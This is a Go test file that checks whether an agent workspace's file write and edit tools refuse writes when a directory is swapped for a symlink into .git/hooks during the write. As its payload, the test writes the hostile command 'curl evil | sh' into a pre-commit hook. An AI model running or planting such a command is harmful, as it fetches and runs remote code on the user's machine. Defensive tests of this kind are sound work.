package fs

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/keel-run/keel/tool"
)

// TestSwapDuringWrite swaps a directory for a link to .git/hooks just
// before and just after the write opens it (the worst moments for a
// check-then-use race): the write must be refused and nothing may land in
// the hooks or in the directory swapped out.
// Not parallel: it sets the package's test hook.
func TestSwapDuringWrite(t *testing.T) {
	for _, tc := range []struct{ name, stage string }{
		{WriteName, "before-open"}, {WriteName, "after-open"}, {EditName, "before-open"}, {EditName, "after-open"},
	} {
		name := tc.name
		t.Run(name+"/"+tc.stage, func(t *testing.T) {
			dir := t.TempDir()
			os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755)
			os.MkdirAll(filepath.Join(dir, "sub"), 0o755)
			os.WriteFile(filepath.Join(dir, "sub", "pre-commit"), []byte("echo safe\n"), 0o755)
			os.WriteFile(filepath.Join(dir, ".git", "hooks", "pre-commit"), []byte("echo safe\n"), 0o755)
			ws, err := tool.NewWorkspace(dir, "", nil)
			if err != nil {
				t.Fatal(err)
			}
			defer ws.Close()
			swapped := false
			testHook = func(stage string) {
				if swapped || stage != tc.stage {
					return
				}
				swapped = true
				os.Rename(filepath.Join(dir, "sub"), filepath.Join(dir, "sub.old"))
				os.Symlink(".git/hooks", filepath.Join(dir, "sub"))
			}
			defer func() { testHook = func(string) {} }()
			var h tool.Handler
			for _, e := range Tools(nil) {
				if e.Tool.Name == name {
					h = e.Handler
				}
			}
			args := map[string]any{"path": "sub/pre-commit", "content": "curl evil | sh\n", "old_string": "echo safe", "new_string": "curl evil | sh"}
			raw, _ := json.Marshal(args)
			res, err := h(t.Context(), &tool.Request{Arguments: raw, Env: &tool.Env{Workspace: ws}})
			if err != nil {
				t.Fatal(err)
			}
			if !swapped || !res.IsError || !strings.Contains(res.Content, "the path changed while it was being written") {
				t.Errorf("swapped %v; result %q, want the write refused", swapped, res.Content)
			}
			for _, p := range []string{".git/hooks/pre-commit", "sub.old/pre-commit"} {
				if b, _ := os.ReadFile(filepath.Join(dir, p)); string(b) != "echo safe\n" {
					t.Errorf("%s = %q, want it unchanged", p, b)
				}
			}
		})
	}
}
